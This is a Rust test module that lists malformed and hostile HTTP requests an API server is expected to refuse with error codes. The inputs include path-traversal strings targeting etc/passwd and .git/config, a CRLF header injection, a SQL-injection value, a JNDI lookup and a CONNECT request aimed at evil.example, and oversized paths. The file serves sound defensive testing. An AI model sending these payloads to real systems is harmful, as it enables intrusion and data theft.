//! Tricks with paths and methods: nothing but what the path spells is reached.

use super::answer::Form;
use super::row::{Call, Row};

pub(crate) fn rows() -> Vec<Row> {
    let mut rows = ids();
    rows.extend(escapes());
    rows.extend(routes());
    rows.extend(raw());
    rows.extend(methods());
    rows
}

/// What decodes to an article number that does not exist, however it looks.
fn ids() -> Vec<Row> {
    [
        ("..%2f..%2f..%2fetc%2fpasswd", "../../../etc/passwd"),
        ("%2e%2e", ".."),
        ("..", ".."),
        (".", "."),
        ("%2e%2e%5c%2e%2e%5c", r"..\..\"),
        ("100%20", "100 "),
        ("%20100", " 100"),
        ("100%0d%0aset-cookie:%20a=b", "100\r\nset-cookie: a=b"),
        ("100;v=1", "100;v=1"),
        ("100%3f", "100?"),
        ("100%23", "100#"),
        ("100%2fdelete", "100/delete"),
        ("%2531%2530%2530", "%31%30%30"),
        ("100%27%20OR%20%271%27=%271", "100' OR '1'='1"),
        ("%22%22100%22%22", "\"100\""),
        ("%22", "\""),
        ("%F0%9F%92%A9", "\u{1f4a9}"),
        ("%e2%80%ae001", "\u{202e}001"),
        (
            "${jndi:ldap:%2f%2fevil.example%2fx}",
            "${jndi:ldap://evil.example/x}",
        ),
        ("*", "*"),
    ]
    .iter()
    .flat_map(|(id, shown)| {
        ["", "delete/"].map(|before| {
            let path = format!("/api/v1/articles/{before}{id}");
            let row = Call::user("GET", &path).refused(path.as_str(), 404, Form::Article);
            row.says(format!("Article not found: {shown}"))
        })
    })
    .chain([
        Call::user("GET", &format!("/api/v1/articles/{}", "x".repeat(8000)))
            .refused("an id of 8000 bytes", 404, Form::Article)
            .says("Article not found: xxx"),
    ])
    .collect()
}

/// What does not decode.
fn escapes() -> Vec<Row> {
    let mut rows = Vec::new();
    for (id, says) in [
        ("%", "incomplete escape"),
        ("%2", "incomplete escape"),
        ("%zz", "incomplete escape"),
        ("%u0041", "incomplete escape"),
        ("100%", "incomplete escape"),
        ("%00", "NUL"),
        ("100%00.json", "NUL"),
        ("%ff", "not valid UTF-8"),
        ("%c0%af", "not valid UTF-8"),
        ("%ed%a0%80", "not valid UTF-8"),
        ("%e2%82", "not valid UTF-8"),
    ] {
        for (path, form) in [
            (format!("/api/v1/articles/{id}"), Form::Article),
            (format!("/api/v1/articles/delete/{id}"), Form::Article),
            (format!("/api/v2/jobs/{id}"), Form::Fusion),
            (format!("/api/v2/jobs/{id}/errors"), Form::Fusion),
        ] {
            rows.push(
                Call::user("GET", &path)
                    .refused(path.as_str(), 400, form)
                    .says(says),
            );
        }
    }
    rows
}

/// What no route has, in the form of the dialect that the path begins with.
fn routes() -> Vec<Row> {
    let mut rows = Vec::new();
    for (path, form) in [
        ("/", Form::Plain),
        ("//", Form::Plain),
        ("/api", Form::Slingr),
        ("/api/%00", Form::Slingr),
        ("/prod/runtime/api", Form::Slingr),
        ("/prod/runtime/api/nothing", Form::Slingr),
        ("/API/V1/jobs/jobs", Form::Plain),
        ("/apis/v1", Form::Plain),
        ("/.git/config", Form::Plain),
        ("/..%2f..%2fetc%2fpasswd", Form::Plain),
        ("/%2e%2e/%2e%2e/etc/passwd", Form::Plain),
        ("/../../etc/passwd", Form::Plain),
        ("/docs/../../etc/passwd", Form::Plain),
        ("/openapi/..%2f..%2fetc%2fpasswd", Form::Plain),
        ("/openapi/none.json", Form::Plain),
        ("/%zz", Form::Plain),
        ("/%00", Form::Plain),
        ("/console/", Form::Plain),
        ("/api/v1", Form::Article),
        ("/api/v1/", Form::Article),
        ("/api/v1/articles/", Form::Article),
        ("/api/v1/articles/../admin/users", Form::Article),
        ("/api/v1/articles/100/", Form::Article),
        ("/api/v1/articles/100/x", Form::Article),
        ("/api/v1//articles/100", Form::Article),
        ("/api/v1/jobs/jobs/", Form::Article),
        ("/api/v1/jobs/JOBS", Form::Article),
        ("/api/v1/jobs;x/jobs", Form::Article),
        ("/api/v1/administrator", Form::Article),
        ("/api/v1/admin", Form::Admin),
        ("/api/v1/admin/", Form::Admin),
        ("/api/v1/admin/users/", Form::Admin),
        ("/api/v1/admin/%75sers/x", Form::Admin),
        ("/api/v2", Form::Fusion),
        ("/api/v2/jobs/", Form::Fusion),
        ("/api/v2/jobs/1/", Form::Fusion),
        ("/api/v2/jobs/1/errors/x", Form::Fusion),
        ("/api/v2/jobs/../../v1/articles/100", Form::Fusion),
    ] {
        rows.push(
            Call::user("GET", path)
                .refused(path, 404, form)
                .says("no such path"),
        );
    }
    for id in [
        "0",
        "-1",
        "1.5",
        "1e3",
        "0x1",
        "999999999999999999999",
        "9223372036854775807",
        "abc",
        "1%20",
        "%31%20",
        "٣",
    ] {
        let id = if id == "٣" { "%D9%A3" } else { id };
        for after in ["", "/errors", "/results", "/logs", "/errors.csv"] {
            let path = format!("/api/v2/jobs/{id}{after}");
            rows.push(
                Call::user("GET", &path)
                    .refused(path.as_str(), 404, Form::Fusion)
                    .says("not found"),
            );
        }
        let path = format!("/api/v2/jobs/{id}/cancel");
        rows.push(
            Call::user("POST", &path)
                .refused(path.as_str(), 404, Form::Fusion)
                .says("not found"),
        );
    }
    rows
}

/// Targets that no client library sends.
fn raw() -> Vec<Row> {
    let line = |target: &[u8]| {
        let head = b"host: stockyard\r\nauthorization: Bearer {user}\r\nconnection: close\r\n\r\n";
        [b"GET ", target, b" HTTP/1.1\r\n", &head[..]].concat()
    };
    let long = format!("/api/v1/articles/{}", "x".repeat(17_000));
    let longer = format!("/{}", "x".repeat(70_000));
    vec![
        Row::raw(
            "a blank in the path",
            line(b"/api/v1/articles/1 00"),
            400,
            Form::Bare,
        ),
        Row::raw(
            "a tab in the path",
            line(b"/api/v1/articles/1\t00"),
            400,
            Form::Bare,
        ),
        Row::raw(
            "a NUL in the path",
            line(b"/api/v1/articles/1\x0000"),
            400,
            Form::Bare,
        ),
        Row::raw(
            "a byte that is no UTF-8",
            line(b"/api/v1/articles/\xff"),
            400,
            Form::Bare,
        ),
        Row::raw("no slash", line(b"api/v1/articles/100"), 400, Form::Bare),
        Row::raw("no target", line(b""), 400, Form::Bare),
        Row::raw("a bare CR", line(b"/api/v1/articles/100\r"), 400, Form::Bare),
        Row::raw("17 kB", line(long.as_bytes()), 414, Form::Article).says("at most 16384 are taken"),
        Row::raw(
            "17 kB of query",
            line(format!("/api/v2/jobs?page={}", "1".repeat(17_000)).as_bytes()),
            414,
            Form::Fusion,
        )
        .says("at most 16384 are taken"),
        Row::raw("70 kB", line(longer.as_bytes()), 431, Form::Bare),
        Row::raw(
            "another host's path",
            line(b"http://evil.example/api/v1/articles/300"),
            404,
            Form::Article,
        )
        .says("Article not found: 300"),
        Row::raw("another scheme", line(b"file:///etc/passwd"), 400, Form::Bare),
        Row::raw("an asterisk", line(b"*"), 404, Form::Plain),
    ]
}

fn methods() -> Vec<Row> {
    let mut rows = Vec::new();
    for (method, path, form) in [
        ("PUT", "/api/v1/articles/update", Form::Article),
        ("PATCH", "/api/v1/articles/100", Form::Article),
        ("TRACE", "/api/v1/articles/100", Form::Article),
        ("OPTIONS", "/api/v1/articles/100", Form::Article),
        ("PROPFIND", "/api/v1/articles/100", Form::Article),
        ("get", "/api/v1/articles/100", Form::Article),
        ("FOO", "/api/v1/jobs/flush", Form::Article),
        ("POST", "/api/v1/admin/users", Form::Admin),
        ("DELETE", "/api/v1/admin/users", Form::Admin),
        ("DELETE", "/api/v2/jobs", Form::Fusion),
        ("PUT", "/api/v2/jobs/1", Form::Fusion),
        ("GET", "/api/v2/jobs/1/cancel", Form::Fusion),
        ("POST", "/healthz", Form::Plain),
    ] {
        let call = Call::admin(method, path).body("");
        rows.push(call.refused(format!("{method} {path}"), 405, form).says(method));
    }
    let connect = "CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example:443\r\nconnection: close\r\n\r\n";
    rows.push(Row::raw("CONNECT", connect, 404, Form::Plain).says("no such path"));
    let long = format!(
        "{} /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
        "M".repeat(300)
    );
    rows.push(Row::raw("a long method", long, 405, Form::Plain));
    rows
}
